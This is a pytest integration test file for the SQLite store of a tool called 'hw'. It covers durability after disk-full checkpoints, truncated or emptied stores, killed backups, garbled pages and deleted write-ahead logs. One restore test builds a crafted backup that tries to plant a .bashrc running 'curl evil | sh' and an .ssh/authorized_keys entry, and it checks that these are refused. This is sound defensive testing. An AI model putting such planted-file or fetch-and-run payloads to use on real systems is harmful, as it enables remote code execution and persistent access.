"""The store side of issue 14, on real SQLite files and real ``hw`` processes.

A disk-full checkpoint is not a truncated store (item 3); a damaged or emptied
store is refused before anything is written (item 5); a killed backup leaves
nothing readable behind (item 11); restore writes only the files hw backs up
(item 16); a write-ahead log deleted under a running process stops its writes
(item 2).
"""

from __future__ import annotations

import os
import random
import shutil
import signal
import sqlite3
import subprocess
import sys
import time
from contextlib import closing
from pathlib import Path

import pytest

from hwcore.application import (
    ChangeKind,
    InvalidValueError,
    StoreError,
    backup_store,
    restore_store,
)
from hwcore.bootstrap import open_application
from hwcore.domain import case_id_for
from tests.conftest import TODAY
from tests.integration.test_durability import digest, filled, hw, one_clear_line

pytestmark = pytest.mark.sqlite_only


@pytest.fixture
def plain_env(home: Path) -> dict[str, str]:
    """An environment for hw on the SQLite store in ``home``."""
    env = {k: v for k, v in os.environ.items() if not k.startswith("HW_")}
    env["HW_HOME"] = str(home)
    return env


def _last_page_one(wal: bytes, page_size: int) -> bytes:
    """The newest copy of page 1 in a write-ahead log's frames."""
    frame = 24 + page_size
    found = b""
    for start in range(32, len(wal) - frame + 1, frame):
        if int.from_bytes(wal[start : start + 4], "big") == 1:
            found = wal[start + 24 : start + frame]
    assert found, "no frame for page 1 in the log"
    return found


def test_a_checkpoint_cut_short_by_a_full_disk_is_not_a_truncated_store(
    home: Path, tmp_path: Path, plain_env: dict[str, str]
) -> None:
    """Page 1 checkpointed, the other pages still in the WAL: SQLite reads them, hw too."""
    settings = filled(home)
    size_before = settings.events_path.stat().st_size
    copy = tmp_path / "after-disk-full"
    copy.mkdir(mode=0o700)
    with open_application(settings=settings, today=lambda: TODAY) as app:
        for c in range(40):
            case = app._load(f"F{c:02d}")
            case.note_change(1, ChangeKind.LIFE, "invented note " * 40)
            app.save(case)
        app.register_client("LATE")
        wal = Path(str(settings.events_path) + "-wal").read_bytes()
        shutil.copy(settings.events_path, copy / "events.sqlite")
    page_size = int.from_bytes(copy.joinpath("events.sqlite").read_bytes()[16:18], "big")
    page_one = _last_page_one(wal, page_size)
    pages = int.from_bytes(page_one[28:32], "big")
    assert pages * page_size > size_before  # the store grew: its new pages are in the WAL
    with (copy / "events.sqlite").open("r+b") as f:
        f.write(page_one)  # the checkpoint wrote page 1, then the disk was full
    (copy / "events.sqlite-wal").write_bytes(wal)
    env = {**plain_env, "HW_HOME": str(copy)}
    result = hw(env, "clients")
    assert result.returncode == 0, result.stderr
    assert "truncated" not in result.stderr
    assert "LATE" in result.stdout
    assert hw(env, "plan", "F01").returncode == 0


def test_a_truncated_store_without_its_log_is_still_refused(
    home: Path, plain_env: dict[str, str]
) -> None:
    settings = filled(home)
    data = settings.events_path.read_bytes()
    settings.events_path.write_bytes(data[: len(data) // 2])
    Path(str(settings.events_path) + "-wal").write_bytes(b"not a log")
    before = digest(home)
    assert "truncated" in one_clear_line(hw(plain_env, "plan", "F01"))
    assert digest(home) == before


def _dead_pid() -> int:
    """The id of a process that has exited (reaped)."""
    child = subprocess.Popen([sys.executable, "-c", "pass"])
    child.wait()
    return child.pid


def test_a_killed_backup_leaves_no_copy_behind(home: Path, tmp_path: Path) -> None:
    """The next backup into the folder removes the temp file of one that was killed."""
    filled(home)
    target = tmp_path / "backups"
    target.mkdir()
    env = {k: v for k, v in os.environ.items() if not k.startswith("HW_")}
    env["HW_HOME"] = str(home)
    # A real kill first: the backup is stopped as soon as its temp file appears.
    proc = subprocess.Popen(
        [sys.executable, "-m", "hwcli.main", "backup", str(target / "first.hwbackup")],
        env=env,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )
    deadline = time.monotonic() + 60
    while proc.poll() is None and time.monotonic() < deadline:
        if list(target.glob(".hw-backup-*.tmp")):
            proc.send_signal(signal.SIGKILL)
            break
        time.sleep(0.001)
    proc.wait()
    # Whatever the race gave, add a left-over of a killed backup, and one of a live one.
    abandoned = target / f".hw-backup-{_dead_pid()}-x1y2z3.tmp"
    shutil.copy(home / "events.sqlite", abandoned)
    alive = target / f".hw-backup-{os.getpid()}-a1b2c3.tmp"
    alive.write_bytes(b"in progress")
    result = hw(env, "backup", str(target / "second.hwbackup"))
    assert result.returncode == 0, result.stderr
    assert [p.name for p in target.glob(".hw-backup-*.tmp")] == [alive.name]
    assert (target / "second.hwbackup").is_file()


def _backup(home: Path, target: Path) -> Path:
    with open_application(home, today=lambda: TODAY) as app:
        backup_store(app, target)
    return target


def test_restore_writes_only_the_files_hw_backs_up(home: Path, tmp_path: Path) -> None:
    """A crafted backup naming a dot-file or the store's log plants nothing."""
    filled(home)
    (home / "config.json").write_text('{"clinic.name": "Invented Practice"}', encoding="utf-8")
    (home / ".bashrc").write_text("echo never backed up\n", encoding="utf-8")
    backup = _backup(home, tmp_path / "hw.backup")
    with closing(sqlite3.connect(backup)) as conn:
        names = [r[0] for r in conn.execute("SELECT path FROM files ORDER BY path")]
        assert names == ["config.json"]  # hidden files are not the home's own
        crafted = [
            (".bashrc", 0o600, b"curl evil | sh\n"),
            ("events.sqlite-wal", 0o600, b"\x37\x7f\x06\x82 a forged log"),
            (".ssh/authorized_keys", 0o600, b"ssh-ed25519 AAAA invented"),
        ]
        conn.executemany("INSERT INTO files VALUES (?, ?, ?)", crafted)
        # An older backup carries no files digest: the names alone must be refused.
        conn.execute("DELETE FROM meta WHERE key = 'files_digest'")
        conn.commit()
    target = tmp_path / "restored"
    with open_application(target, today=lambda: TODAY) as app:
        report = restore_store(app, backup)
        assert report.files == 1
        assert len(app.client_names()) == 40
    assert sorted(
        p.name for p in target.iterdir() if not p.name.startswith(("events", "read", ".events"))
    ) == ["config.json"]
    assert not (target / ".ssh").exists()


def test_a_backup_whose_files_were_changed_is_refused_whole(home: Path, tmp_path: Path) -> None:
    filled(home)
    (home / "config.json").write_text('{"clinic.name": "Invented Practice"}', encoding="utf-8")
    backup = _backup(home, tmp_path / "hw.backup")
    with closing(sqlite3.connect(backup)) as conn:
        conn.execute("UPDATE files SET content = ? WHERE path = 'config.json'", (b"{}",))
        conn.commit()
    target = tmp_path / "restored"
    with open_application(target, today=lambda: TODAY) as app:
        with pytest.raises(InvalidValueError, match="files digest"):
            restore_store(app, backup)
        assert app.client_names() == []
    assert not (target / "config.json").exists()


def test_an_emptied_store_is_not_taken_for_a_new_one(home: Path, plain_env: dict[str, str]) -> None:
    settings = filled(home)
    settings.events_path.write_bytes(b"")
    for extra in ("-wal", "-shm"):
        Path(str(settings.events_path) + extra).unlink(missing_ok=True)
    before = digest(home)
    line = one_clear_line(hw(plain_env, "client", "add", "NEW"))
    assert "is empty but this home's read model has applied" in line
    assert digest(home) == before  # the read model is not wiped


def test_a_new_home_still_starts_from_an_empty_file(tmp_path: Path) -> None:
    home = tmp_path / "fresh"
    with open_application(home, today=lambda: TODAY) as app:
        app.register_client("N1")
    with open_application(home, today=lambda: TODAY) as app:
        assert app.client_names() == ["N1"]


def _garbled(settings_home: Path) -> None:
    """8 KB of garbage in the middle of the store file (page-aligned, past the schema)."""
    path = settings_home / "events.sqlite"
    data = bytearray(path.read_bytes())
    page = int.from_bytes(data[16:18], "big")
    middle = (len(data) // 2) // page * page
    data[middle : middle + 8192] = random.Random(14).randbytes(8192)
    path.write_bytes(bytes(data))


def test_bulk_writes_to_a_store_with_garbage_inside_are_refused(
    home: Path, tmp_path: Path, plain_env: dict[str, str]
) -> None:
    """Import, purge and restore check every page first: nothing is written."""
    settings = filled(home)
    backup = _backup(home, tmp_path / "hw.backup")
    for extra in ("-wal", "-shm"):
        Path(str(settings.events_path) + extra).unlink(missing_ok=True)
    _garbled(home)
    csv = tmp_path / "history.csv"
    csv.write_text(
        "client,session,date,assignment,format,size,framing,frequency,outcome\n"
        "G1,1,2026-01-05,Walk,behavioral,small,experiment,weekly,completed\n",
        encoding="utf-8",
    )
    before = digest(home)
    for args in (
        ("import", str(csv)),
        ("client", "purge", "F01", "--yes"),
        ("restore", str(backup), "--force"),
    ):
        line = one_clear_line(hw(plain_env, *args))
        assert "damaged" in line, (args, line)
        assert digest(home) == before, args


def test_a_process_whose_log_was_deleted_refuses_to_go_on_writing(
    home: Path, plain_env: dict[str, str]
) -> None:
    """The TUI (or an embedder) holds the store; its -wal and -shm are deleted under it."""
    filled(home)
    with open_application(home, today=lambda: TODAY) as held:
        held.note_change("F01", "life", "before", session=1)
        for extra in ("-wal", "-shm"):
            (home / f"events.sqlite{extra}").unlink()
        # Another process starts a new log and writes (its write is acknowledged).
        result = hw(plain_env, "change", "F02", "--kind", "life", "--note", "elsewhere")
        assert result.returncode == 0, result.stderr
        with pytest.raises(StoreError, match=r"write-ahead log \(events.sqlite-wal\) was deleted"):
            held.note_change("F01", "life", "after", session=1)
        with pytest.raises(StoreError, match="was deleted"):
            held.register_client("NEW")
        assert held.repository.kept_version(case_id_for("NEW")) is None
